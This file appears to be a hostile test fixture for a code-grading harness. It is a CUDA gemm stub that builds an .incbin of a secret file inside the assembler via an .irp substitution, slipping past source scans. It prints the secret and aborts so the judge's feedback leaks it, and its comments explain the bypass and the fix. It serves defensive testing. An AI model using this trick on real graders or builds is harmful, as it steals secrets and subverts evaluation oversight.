// attack: .incbin assembled inside the assembler by an .irp loop
// expect: POLICY_VIOLATION | COMPILE_ERROR
// stage: cpu
// defended: yes (.irp/.irpc/.rept/.macro/.altmacro are refused in sources and in the preprocessed string literals)
// why: GNU as substitutes \d inside .irp, so ".inc\d" with d = bin becomes .incbin only inside the
//   assembler: neither the source scan nor the preprocessed scan sees the directive. The library is
//   built with the file's bytes in .rodata (verified: the secret is in candidate.so), and at run
//   time this entry point prints them and aborts, so the worker's log tail carries them into the
//   feedback. .irp/.rept/.macro can likewise assemble .include. Fix: refuse
//   .irp/.irpc/.rept/.macro/.altmacro in asm strings, or assemble with a wrapper that rejects file
//   directives after expansion (e.g. check the object for unexpected data).

#include <cuda_runtime.h>
#include <cuda_bf16.h>

#include <cstdio>
#include <cstdlib>

asm(".section .rodata\n"
    ".global hostile_leaked_bytes\n"
    "hostile_leaked_bytes:\n"
    ".irp d,bin\n"
    ".inc\\d \"@SECRET_PATH@\"\n"
    ".endr\n"
    ".byte 0\n"
    ".text\n");
extern "C" const char hostile_leaked_bytes[];

extern "C" int gemm(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                    int K, cudaStream_t stream) {
  fprintf(stderr, "%s\n", hostile_leaked_bytes);
  fflush(stderr);
  abort();  // the crash makes the judge show the log's tail in the feedback
}
